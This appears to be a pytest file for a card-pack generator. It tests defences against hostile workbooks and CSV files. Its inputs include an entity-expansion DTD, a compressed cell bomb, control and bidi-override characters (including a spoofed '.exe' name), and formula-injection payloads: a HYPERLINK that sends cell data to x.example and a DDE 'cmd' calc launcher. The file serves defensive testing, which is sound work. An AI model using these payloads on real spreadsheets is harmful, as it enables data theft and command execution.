"""Spreadsheets and CSV a stranger wrote, and CSV pnp writes that a spreadsheet cannot run:
every part of a workbook is checked before openpyxl reads it, whatever its name and however
far it unpacks; card text holds no control or bidi character, in any deck file; an id is
short enough to name a file; and a cell that a spreadsheet would run as a formula is written
behind an apostrophe, which pnp's CSV reader takes off again."""

from __future__ import annotations

import csv
import io
import tracemalloc
import zipfile
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from generator import cli
from generator.exports.images import _csv
from generator.pack.load import load_game
from generator.pack.schema import DEFAULT_LIMITS
from generator.pack.spreadsheet import _csv_table, write_csv

from .conftest import edit
from .test_hostile_load import _found
from .test_spreadsheet import FILE_LINE, _deck_file, _workbook, _zipped

CARDS: list[list[Any]] = [["id", "name", "cost", "back"], ["S1", "火球术", 3, "red"]]
SHEET = "xl/worksheets/sheet1.xml"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
DTD = '<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
TRIGGERS = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"]  # OWASP's: = + - @ tab CR


def _members(workbook: bytes) -> dict[str, bytes]:
    """Each part of a workbook by its name."""
    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _named(members: dict[str, bytes], kind: str, name: str) -> dict[str, bytes]:
    """A workbook's parts with its sheet holding the tiny pack's header and card S1, whose
    name cell B2 holds `name`: as one inline text, as rich-text runs of at most 5,000
    characters each, or as a shared string."""
    def inline(ref: str, text: str) -> str:
        return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'

    parts = dict(members)
    if kind == "shared-string":
        b2 = '<c r="B2" t="s"><v>0</v></c>'
        parts["xl/sharedStrings.xml"] = f'<sst xmlns="{MAIN}"><si><t>{name}</t></si></sst>'.encode()
        parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
            b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
            b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
        parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
            b"</Relationships>", b'<Relationship Id="rIdS" Type="http://schemas.openxmlformats.'
            b'org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
            b"</Relationships>")
    elif kind == "rich-text-runs":
        b2 = '<c r="B2" t="inlineStr"><is>' + "".join(
            f"<r><t>{name[at:at + 5_000]}</t></r>" for at in range(0, len(name), 5_000)
        ) + "</is></c>"
    else:
        b2 = inline("B2", name)
    header = "".join(inline(f"{column}1", text)
                     for column, text in zip("ABCD", ["id", "name", "cost", "back"], strict=True))
    parts[SHEET] = (f'<worksheet xmlns="{MAIN}"><sheetData><row r="1">{header}</row><row r="2">'
                    f'{inline("A2", "S1")}{b2}<c r="C2"><v>3</v></c>{inline("D2", "red")}'
                    "</row></sheetData></worksheet>").encode()
    return parts


# --- workbooks -------------------------------------------------------------------------------


@pytest.mark.parametrize(("part", "encoding"), [("sheet1.XML", "utf-8"), ("sheet1.xml", "utf-16")])
def test_a_dtd_in_any_part_of_a_workbook_is_refused_whatever_its_name(
        packs: Path, part: str, encoding: str) -> None:
    """A part the workbook's relations name `sheet1.XML`, or written in UTF-16."""
    members = _members(_workbook({"Cards": CARDS}))
    sheet = members.pop(SHEET).decode()
    for name in ("[Content_Types].xml", "xl/_rels/workbook.xml.rels"):
        members[name] = members[name].replace(b"sheet1.xml", part.encode())
    members[f"xl/worksheets/{part}"] = sheet.encode(encoding)
    _deck_file(packs, "spells.xlsx", _zipped(members))
    edit(packs / "mini" / "game.yaml", "count: 4", "count: 1")
    assert _found(packs) == []  # the workbook reads, as its own
    members[f"xl/worksheets/{part}"] = sheet.replace("<worksheet", DTD + "<worksheet", 1
                                                     ).encode(encoding)
    (packs / "mini" / "spells.xlsx").write_bytes(_zipped(members))
    assert _found(packs) == [
        f"{packs / 'mini' / 'game.yaml'}:{FILE_LINE}: error: E001: deck 'spells': file "
        f"'spells.xlsx' cannot be read as a workbook: xl/worksheets/{part} declares a DTD, "
        "which no workbook needs"]


@pytest.mark.parametrize(("kind", "where"), [
    ("one-text", f"{SHEET}, cell B2"),
    ("rich-text-runs", f"{SHEET}, cell B2"),  # each run within the limit, not all together
    ("shared-string", "xl/sharedStrings.xml, shared string 1"),
])
def test_a_cell_bomb_is_refused_before_openpyxl_holds_it(packs: Path, kind: str,
                                                         where: str) -> None:
    """19 million characters in one cell, deflated to a workbook of some 20 KB."""
    members = _members(_workbook({"Cards": CARDS}))
    _deck_file(packs, "spells.xlsx", _zipped(_named(members, kind, "火球术" * 3_000)))
    edit(packs / "mini" / "game.yaml", "count: 4", "count: 1")
    assert _found(packs) == []  # the workbook reads, as its own
    assert load_game("mini", packs).decks[0].cards[0].name == "火球术" * 3_000
    workbook = _zipped(_named(members, kind, "x" * 19_000_000))
    assert len(workbook) < 40_000
    (packs / "mini" / "spells.xlsx").write_bytes(workbook)
    tracemalloc.start()
    try:
        found = _found(packs)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert found == [
        f"{packs / 'mini' / 'game.yaml'}:{FILE_LINE}: error: E006: deck 'spells': file "
        f"'spells.xlsx' holds a cell of more than 10000 characters ({where}), over the limit "
        "of 10000 (`limits: string_chars` in game.yaml)"]
    assert peak < 10_000_000  # the cell alone is 19 MB


# --- card text -------------------------------------------------------------------------------


def _control(char: str) -> str:
    """What a finding says of a control character, after the text that holds it."""
    return f"holds U+{ord(char):04X}, a control character, which prints as nothing or as a box"


def test_nul_bel_and_esc_in_a_csv_deck_are_refused_at_the_line_of_their_row(packs: Path) -> None:
    spells = _deck_file(packs, "spells.csv", (
        "id,name,cost,back\r\n"
        'S1,"火球术\r\n第二行",3,red\r\n'  # a cell of two lines: rows and lines differ
        "S2,治\x00疗术,2,green\r\n"
        "S3,冰\x07冻术,1,blue\r\n"
        "S4,雷\x1b,1,red\r\n"))
    assert _found(packs) == [
        f"{spells}:4: error: E010: card 'S2': the text '治\\x00疗术' {_control(chr(0))}: remove it",
        f"{spells}:5: error: E010: card 'S3': the text '冰\\x07冻术' {_control(chr(7))}: remove it",
        f"{spells}:6: error: E010: card 'S4': the text '雷\\x1b' {_control(chr(27))}: remove it"]


def test_control_characters_a_yaml_deck_escapes_are_refused_at_their_line(packs: Path) -> None:
    spells = packs / "mini" / "spells.yaml"
    edit(spells, "  name: 治疗术\n", '  name: "治\\a疗术"\n')
    edit(spells, "  name: 冰冻术\n", '  name: "冰冻术"\n  motto: "冰\\e\\0封"\n')
    assert _found(packs) == [
        f"{spells}:9: error: E010: card 'S2': the text '治\\x07疗术' {_control(chr(7))}: remove it",
        f"{spells}:14: error: E010: card 'S3': the text '冰\\x1b\\x00封' {_control(chr(27))}: "
        "remove it"]


RLO = "holds U+202E (RIGHT-TO-LEFT OVERRIDE), which makes text print otherwise than it reads"


def test_a_right_to_left_override_is_refused_at_its_line_in_every_deck_file(
        packs: Path) -> None:
    game = packs / "mini" / "game.yaml"
    spells = _deck_file(packs, "spells.csv", "id,name,cost,back\r\nS1,火球术,3,red\r\n"
                        "S2,\"治疗\r\n术\",2,green\r\nS3,gnp\u202e.exe,1,blue\r\n")
    edit(game, "count: 4", "count: 3")
    assert _found(packs) == [
        f"{spells}:5: error: E010: card 'S3': the text 'gnp\\u202e.exe' {RLO}: remove it"]
    edit(game, "file: spells.csv", "file: spells.xlsx")
    spells = packs / "mini" / "spells.xlsx"
    spells.write_bytes(_workbook({"Cards": [
        *CARDS, ["S2", "治疗术", 2, "green"], ["S3", "gnp\u202e.exe", 1, "blue"]]}))
    assert _found(packs) == [
        f"{spells}:Cards!B4: error: E010: card 'S3': the text 'gnp\\u202e.exe' {RLO}: remove it"]
    edit(game, "file: spells.xlsx", "file: spells.yaml")
    edit(game, "count: 3", "count: 4")
    spells = packs / "mini" / "spells.yaml"
    edit(spells, "  cost: 1\n", "  cost: 1\n  motto: \"\u2067封\u2069 \u202d冰\u202c\"\n")
    assert _found(packs) == [
        f"{spells}:15: error: E010: card 'S3': the text '\\u2067封\\u2069 \\u202d冰\\u202c' holds "
        "U+2067 (RIGHT-TO-LEFT ISOLATE), which makes text print otherwise than it reads: "
        "remove it"]


# --- ids -------------------------------------------------------------------------------------


def test_an_id_of_300_characters_is_refused_at_its_line_by_validate(
        packs: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    long = "S" * 300
    spells = packs / "mini" / "spells.yaml"
    edit(spells, "- id: S2\n", f"- id: {long}\n")
    command = ["validate", "mini", "--cards", str(packs), "--out", str(tmp_path / "out")]
    assert cli.main(command) == 1
    assert capsys.readouterr().out.splitlines()[:2] == [
        f"{spells}:8: error: E010: card '{long}': field 'id': string should have at most 48 "
        "characters", "mini: 1 error, 0 warnings"]
    edit(spells, f"- id: {long}\n", f"- id: {'S' * 48}\n")
    assert _found(packs) == []


def test_a_long_card_id_in_a_csv_deck_and_a_long_back_id_are_refused_at_their_line(
        packs: Path) -> None:
    game = packs / "mini" / "game.yaml"
    spells = _deck_file(packs, "spells.csv", "id,name,cost,back\r\nS1,火球术,3,red\r\n"
                        f"S2,治疗术,2,green\r\n{'S' * 49},冰冻术,1,blue\r\n")
    edit(game, "count: 4", "count: 3")
    assert _found(packs) == [f"{spells}:4: error: E010: card '{'S' * 49}': column 'id': string "
                             "should have at most 48 characters"]
    edit(game, "  blue: {", f"  {'b' * 49}: {{")
    assert _found(packs) == [f"{game}:10: error: E010: field 'backs.{'b' * 49}.[key]': string "
                             "should have at most 48 characters; nothing else was checked, as "
                             "the rest depends on it"]


# --- CSV pnp writes --------------------------------------------------------------------------


def _runnable(text: str) -> list[str]:
    """The cells of CSV text that a spreadsheet opening it would run as a formula."""
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and cell]


def test_pnp_deck_csv_writes_no_cell_a_spreadsheet_would_run(packs: Path, tmp_path: Path) -> None:
    game = packs / "mini" / "game.yaml"
    spells = packs / "mini" / "spells.yaml"
    spells.write_text(
        "- {id: S1, name: '=HYPERLINK(\"http://x.example/?\"&A1,\"点我\")', cost: -3, back: red}\n"
        "- {id: S2, name: \"=cmd|' /C calc'!A0\", cost: 2, back: green}\n"
        "- {id: S3, name: '@SUM(1+1)', cost: 1, back: blue, qty: 2}\n"
        "- {id: S4, name: '+1', cost: 0, back: red, motto: \"\\tTab\"}\n"
        "- {id: S5, name: \"'=已是文字\", cost: 1, back: red, motto: \"'tis\"}\n", encoding="utf-8")
    edit(game, "count: 4", "count: 6")
    out = tmp_path / "spells.csv"
    assert cli.main(["deck-csv", "mini", "spells", "--cards", str(packs), "--out", str(out)]) == 0
    text = out.read_bytes().decode()
    assert text == (
        "\ufeffid,name,cost,back,qty,motto\r\n"
        "S1,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"点我\"\")\",'-3,red,,\r\n"
        "S2,'=cmd|' /C calc'!A0,2,green,,\r\n"
        "S3,'@SUM(1+1),1,blue,2,\r\n"
        "S4,'+1,0,red,,'\tTab\r\n"
        "S5,''=已是文字,1,red,,'tis\r\n")
    assert _runnable(text) == []
    before = [card.model_dump() for card in load_game("mini", packs).decks[0].cards]
    _deck_file(packs, "spells.csv", text)
    assert _found(packs) == []
    assert [card.model_dump() for card in load_game("mini", packs).decks[0].cards] == before


def test_images_csv_writes_no_cell_a_spreadsheet_would_run() -> None:
    rows = [{"file": f"spells/00{n}-S{n}-front.png", "name": name, "copies": n}
            for n, name in enumerate([*TRIGGERS, "'=1", "'tis"], start=1)]
    text = _csv(rows).decode()
    assert text == (
        "file,name,copies\r\n"
        "spells/001-S1-front.png,'=1+1,1\r\n"
        "spells/002-S2-front.png,'+1,2\r\n"
        "spells/003-S3-front.png,'-1,3\r\n"
        "spells/004-S4-front.png,'@SUM(A1),4\r\n"
        "spells/005-S5-front.png,'\t=1,5\r\n"
        "spells/006-S6-front.png,\"'\r=1\",6\r\n"
        "spells/007-S7-front.png,''=1,7\r\n"
        "spells/008-S8-front.png,'tis,8\r\n")
    assert _runnable(text) == []
    assert _csv([]) == b"file\r\n"


@pytest.mark.parametrize(("cell", "read"), [
    ("'tis", "'tis"), ("'-3", "-3"), ("'=1", "=1"), ("''=1", "'=1"), ("'", "'"),
    ("''", "''"), ("-3", "-3"), ("=1", "=1")])
def test_the_csv_reader_takes_off_only_an_apostrophe_before_a_formula(cell: str,
                                                                      read: str) -> None:
    """What a person typed reads as they typed it; only `'` before `=+-@`, tab, CR or more
    such apostrophes is the writer's."""
    table = _csv_table(f"id,name\r\nS1,{cell}\r\n", DEFAULT_LIMITS)
    assert table.rows[1][1] == ["S1", read]


def test_a_negative_number_written_behind_an_apostrophe_reads_as_the_number(
        packs: Path) -> None:
    _deck_file(packs, "spells.csv", "id,name,cost,back\r\nS1,火球术,'-3,red\r\n")
    edit(packs / "mini" / "game.yaml", "count: 4", "count: 1")
    assert [card.model_dump()["cost"] for card in load_game("mini", packs).decks[0].cards] == [-3]


@given(st.lists(st.tuples(st.text(), st.text()).filter(any), max_size=6))
@example([("'", "'=")])
@example([("''-3", "\r\n@")])
@example([("\ufeff=1", "'\t")])
def test_any_text_the_csv_writer_writes_reads_back_the_same(rows: list[tuple[str, str]]) -> None:
    text = write_csv([("a", "b"), *rows])
    assert _runnable(text) == []
    assert [cells for _, cells in _csv_table(text, DEFAULT_LIMITS).rows] == [
        ["a", "b"], *map(list, rows)]
